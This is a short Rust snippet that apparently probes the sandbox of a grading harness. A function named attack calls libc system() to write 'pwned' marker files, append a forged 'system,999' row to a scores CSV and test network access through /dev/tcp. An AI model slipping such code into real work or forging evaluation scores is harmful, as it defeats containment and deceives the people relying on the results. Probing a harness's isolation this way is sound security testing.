unsafe extern "C" {
    fn system(command: *const std::ffi::c_char) -> i32;
}

/// Runs shell commands through libc: files beside the results, a forged CSV row, the network.
fn attack(_center: Vec3, _radius: f32) {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        let script = "echo pwned > @OUT@/pwned; echo 'system,999' >> @SCORES@; \
                      echo pwned > /tmp/stereolab-pwned; \
                      (exec 3<>/dev/tcp/127.0.0.1/22) 2>/dev/null && echo network-open";
        let command = std::ffi::CString::new(script).unwrap();
        let status = unsafe { system(command.as_ptr()) };
        println!("system() ran: status {status}");
    });
}
